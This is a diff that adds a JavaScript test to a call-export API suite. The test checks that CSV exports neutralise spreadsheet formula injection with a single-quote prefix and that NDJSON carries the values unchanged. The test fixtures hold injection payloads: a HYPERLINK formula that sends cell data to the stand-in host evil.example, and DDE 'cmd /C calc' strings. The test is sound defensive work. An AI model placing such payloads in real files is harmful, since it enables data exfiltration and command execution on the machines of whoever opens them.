@@ -107,6 +107,33 @@ describe('GET /api/calls/export', () => {
     expect(byAccept.lines).toHaveLength(2);
   });
 
+  it('prefixes CSV cells that a spreadsheet would run as a formula with a single quote', async () => {
+    await seedCall(
+      t.db,
+      simpleCall(
+        '=HYPERLINK("http://evil.example/?d="&A1;"open")',
+        new Date('2024-03-01T00:00:00Z'),
+        { agentId: "@SUM(1+1)*cmd|' /C calc'!A0", from: '+15550123', to: null, metadata: { '=key': '-value' } },
+        "+cmd|' /C calc'!A0",
+      ),
+    );
+
+    const csv = await exportCalls('?format=csv&from=2024-03-01T00:00:00Z&to=2024-03-02T00:00:00Z');
+    expect(csv.firstLines[1].split(',').slice(0, 4)).toEqual([
+      `"'=HYPERLINK(""http://evil.example/?d=""&A1;""open"")"`,
+      `'@SUM(1+1)*cmd|' /C calc'!A0`,
+      '',
+      // A phone number is a plain signed number: nothing to run, kept as it is.
+      '+15550123',
+    ]);
+    expect(csv.firstLines[1]).toContain(`,'+cmd|' /C calc'!A0,`);
+    expect(csv.firstLines[1]).toMatch(/,"\{""=key"":""-value""\}"$/);
+
+    // NDJSON is data, not a spreadsheet: it carries the values untouched.
+    const ndjson = await exportCalls('?from=2024-03-01T00:00:00Z&to=2024-03-02T00:00:00Z');
+    expect(JSON.parse(ndjson.firstLines[0])).toMatchObject({ agent_id: "@SUM(1+1)*cmd|' /C calc'!A0", summary: "+cmd|' /C calc'!A0" });
+  });
+
   it('applies the list filters', async () => {
     expect((await exportCalls('?agent_id=agent-3')).lines).toHaveLength(CALLS / 5);
     expect((await exportCalls('?from=2025-06-01T00:00:00Z&to=2025-06-01T00:01:00Z')).lines).toHaveLength(59);
